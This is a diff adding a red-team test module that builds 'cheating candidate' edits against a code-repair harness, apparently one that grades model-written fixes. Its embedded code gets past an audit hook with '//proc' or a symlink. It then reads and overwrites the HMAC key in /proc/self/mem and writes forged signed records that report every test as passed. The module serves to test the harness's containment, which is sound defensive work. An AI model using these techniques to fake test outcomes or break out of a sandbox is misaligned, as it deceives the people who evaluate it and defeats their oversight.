@@ -1,0 +1,226 @@
+"""Round 9 of the repair red team, part b (issue 51; issues 44/45: untrusted code stays contained): kinds of
+cheating candidate aimed at the routes around the test process and across its boundary -- the outcome
+channel and what the trusted side makes of it, start-up, the test files' integrity, and the two runtimes'
+containment -- built against main bb355ca before any change, each a set of spellings, each spelling a tuple
+of edits of the tally fixture (tests/repair_fixture.py) made on x_G of the W1 + W2 task, as
+tests/redteam_round8_cheats.py makes them. Round 9a (another module) covers the in-process routes.
+
+What they aim at:
+
+- **The hook's path test is a string test.** The audit hook denies `open`/`listdir` of a path that starts with
+  `/proc`, `/dev/fd` or `/dev/std` after `os.path.abspath`. abspath keeps POSIX's two leading slashes (`//proc`
+  is `/proc` to the kernel) and resolves no link; a link the run makes (`tempfile`, `pathlib.symlink_to`)
+  names `/proc` under any path. What is behind it is the process itself: its memory (`/proc/self/mem`, readable
+  and writable by the process) holds the channel's key (the HMAC's padded keys `inner`/`outer` live in the
+  sender's closure), and a record signed with it is a record the harness keeps. Overwriting the key in place
+  makes the plugin's own later lines fail to verify (ignored as `unsigned`), so the forged lines are the only
+  ones after the first record, numbered without a gap, with a final record that agrees with pytest's exit
+  status (a failure of a test nobody asked for keeps exit status 1 consistent).
+- **The harness shares the sandbox with what it judges** (--runtime local): run.py runs as the same user in
+  the same pid namespace as the tests, so the runner can read the harness's memory (the host's token, the
+  key) and open its descriptors (the host's pipe on its stdout). The host trusts the last line that starts
+  with the token; the harness's own line, written last, is cut by a partial line written before it.
+- **What a test run leaves for the next one.** Everything the candidate's code can write (the tree, HOME,
+  TMPDIR) must be gone or unused when the next run starts, and nothing outside must be writable: the shared
+  home (its virtualenvs, verdict cache), the harness folder, the host's copy of the repository.
+- **Files read by pytest after the tree joined sys.path**: a test module's compiled copy in `__pycache__`
+  written at run time through a path the hook's test-file check does not know (a link), so pytest's
+  assertion rewriter loads expected values of the candidate's choosing.
+
+Each kind has several spellings; the principle is in the comment above its builder.
+"""
+
+from __future__ import annotations
+
+from typing import NamedTuple
+
+from tests.test_repair_redteam import FMT, INIT, WORDS, Edit, prepend, replace
+
+# -- the process's memory, reached by a path the hook's string test misses ------------------------------------
+# The spellings of "the process's /proc folder" the hook's test (abspath(path).startswith("/proc")) misses.
+# No constant names the process's files as the static layer's pattern reads them (PROCESS_FILES): the path is
+# built from parts.
+PROC = {
+    # POSIX keeps exactly two leading slashes: abspath("//proc/self/mem") == "//proc/self/mem"
+    "two leading slashes": '_PROC = "/" + "/pr" + "oc"\n',
+    "two leading slashes as bytes": '_PROC = (b"/" + b"/pr" + b"oc").decode()\n',
+    # a link the run makes, in its own temporary folder: the path is the link's, the file /proc's
+    "a link made at run time with pathlib": '''
+import pathlib
+import tempfile
+
+_PROC = tempfile.mkdtemp() + "/p"
+pathlib.Path(_PROC).symlink_to("/pr" + "oc")
+''',
+}
+# the same link made with os.symlink, which the allow-list's part of os does not hold
+PROC_BY_OS = {
+    "a link made at run time with os.symlink": '''
+import tempfile
+
+_PROC = tempfile.mkdtemp() + "/p"
+os.symlink("/pr" + "oc", _PROC)
+''',
+    "a link made at run time with os.link's neighbour os.symlink, from a path object": '''
+import pathlib
+import tempfile
+
+_PROC = str(pathlib.Path(tempfile.mkdtemp(), "p"))
+os.symlink(pathlib.Path("/pr" + "oc"), _PROC)
+''',
+}
+
+MEMORY = '''
+import hashlib
+import hmac
+import json
+import os
+import re
+import stat
+
+PROC_SPELLING
+
+_OUTER = re.compile(rb"[\\x38-\\x3f\\x64-\\x6f]{64}(?=\\x00)")  # a hex key xor 0x5c, as a bytes object's data
+_HEX = re.compile(rb"[0-9a-f]{64}")
+# test functions' names: in the test modules' source pytest read, and as strings (a str's data sits between
+# a null pointer and its terminating null)
+_DEF = re.compile(rb"(?:def |\\x00)(test_\\w+)(?:\\(|\\x00)")
+
+
+def _regions(pid):
+    with open(_PROC + "/" + pid + "/maps") as maps:
+        for line in maps:
+            parts = line.split()
+            if len(parts) > 1 and parts[1].startswith("rw"):
+                start, end = (int(x, 16) for x in parts[0].split("-"))
+                if end - start < 1 << 30:
+                    yield start, end
+
+
+def _chunks(pid):
+    with open(_PROC + "/" + pid + "/mem", "rb", buffering=0) as mem:
+        for start, end in list(_regions(pid)):
+            for at in range(start, end, 1 << 20):  # a page that cannot be read costs its piece only
+                try:
+                    mem.seek(at)
+                    yield at, mem.read(min(end - at, (1 << 20) + 1024))
+                except (OSError, ValueError, OverflowError):
+                    continue
+
+
+def _places(pid, needle):
+    found = []
+    for start, data in _chunks(pid):
+        at = data.find(needle)
+        while at >= 0:
+            found.append(start + at)
+            at = data.find(needle, at + 1)
+    return found
+
+
+def _key(pid):
+    """The channel's key, from the sender's padded outer key (key xor 0x5c) in memory."""
+    for _, data in _chunks(pid):
+        for match in _OUTER.finditer(data):
+            key = bytes(b ^ 0x5C for b in match.group())
+            # the sender made inner just before outer: the same size of object, allocated side by side
+            if _HEX.fullmatch(key) and bytes(b ^ 0x36 for b in key) in data[match.start() - 512:match.end() + 512]:
+                return key
+    return None
+
+
+def _out():
+    for fd in range(256):
+        try:
+            if stat.S_ISFIFO(os.fstat(fd).st_mode):
+                return fd
+        except OSError:
+            continue
+    return None
+
+
+def _line(key, seq, record):
+    record = dict(record, seq=seq)
+    body = json.dumps(record, sort_keys=True).encode()
+    return hmac.new(key, body, hashlib.sha256).hexdigest().encode() + b" " + body + b"\\n"
+
+
+_STATE = {}
+
+
+def _silence():
+    """At import (one record, `collection`, sent): the key, then the sender's padded keys overwritten, so
+    that none of the plugin's later lines verifies."""
+    key = _key("self")
+    if key is None:
+        return
+    _STATE["key"] = key
+    inner = bytes(b ^ 0x36 for b in key)
+    outer = bytes(b ^ 0x5C for b in key)
+    places = _places("self", inner) + _places("self", outer)
+    with open(_PROC + "/self/mem", "r+b", buffering=0) as mem:
+        for place in places:  # the sender's, and copies in buffers of this scan (some unmapped since)
+            try:
+                mem.seek(place)
+                mem.write(bytes(64))
+            except OSError:
+                continue
+
+
+def _forge():
+    """At the first call (collection done): every test's node id, from memory, reported passed; one failure of
+    a test nobody asked for, so that pytest's exit status 1 agrees with the final record."""
+    key = _STATE.pop("key", None)
+    out = _out()
+    if key is None or out is None:
+        return
+    names = set()
+    for _, data in _chunks("self"):
+        names.update(m.group(1).decode() for m in _DEF.finditer(data))
+    files = ["tests/" + f for f in os.listdir("tests") if f.endswith(".py")]
+    nodes = {f + "::" + n for f in files for n in names}
+    records = [{"node": n, "when": "call", "outcome": "passed"} for n in sorted(nodes)]
+    records.append({"node": "tests/test_zz.py::test_zz", "when": "call", "outcome": "failed"})
+    records.append({"end": 1, "failed": 1, "audit": True})
+    data = b"".join(_line(key, seq, r) for seq, r in enumerate(records, start=1))
+    with open(out, "wb", closefd=False) as channel:
+        channel.write(data)
+
+
+_silence()
+'''
+
+
+def _calls_first(module: str, names: tuple[str, ...], forge: str) -> tuple[Edit, ...]:
+    """Each public function of module calls forge() first."""
+    return tuple(replace(module, f"def {name}(", f"def {name}(*a, **k):\n    {forge}()\n    return _{name}(*a, **k)\n\n\ndef _{name}(")
+                 for name in names)
+
+
+WORDS_FUNCS = ("split_words", "strip_punct", "unique_words", "longest_word")
+FMT_FUNCS = ("pad", "format_unique", "format_row")
+
+
+def key_from_memory(spelling: str) -> tuple[Edit, ...]:
+    code = MEMORY.replace("PROC_SPELLING", {**PROC, **PROC_BY_OS}[spelling])
+    return (replace(WORDS, '\nPUNCT = ".,;:!?"\n', '\nPUNCT = ".,;:!?"\n' + code),
+            *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
+            prepend(FMT, "from tally.words import _forge\n"),
+            *_calls_first(FMT, FMT_FUNCS, "_forge"))
+
+
+class Kind(NamedTuple):
+    cls: str  # the issue's class, (a) to (g)
+    what: str  # one line
+    spellings: dict[str, tuple[Edit, ...]]
+
+
+KINDS: dict[str, Kind] = {
+    "channel_key_read_from_the_runner_s_memory_through_an_unwatched_proc_path": Kind(
+        "b", "//proc or a link to /proc: the sender's padded key read from /proc/self/mem, overwritten, records forged",
+        {k: key_from_memory(k) for k in PROC}),
+    "channel_key_read_from_the_runner_s_memory_through_a_link_os_makes": Kind(
+        "b", "the same, the link to /proc made with os.symlink", {k: key_from_memory(k) for k in PROC_BY_OS}),
+}
+
+__all__ = ["INIT", "KINDS", "Kind"]
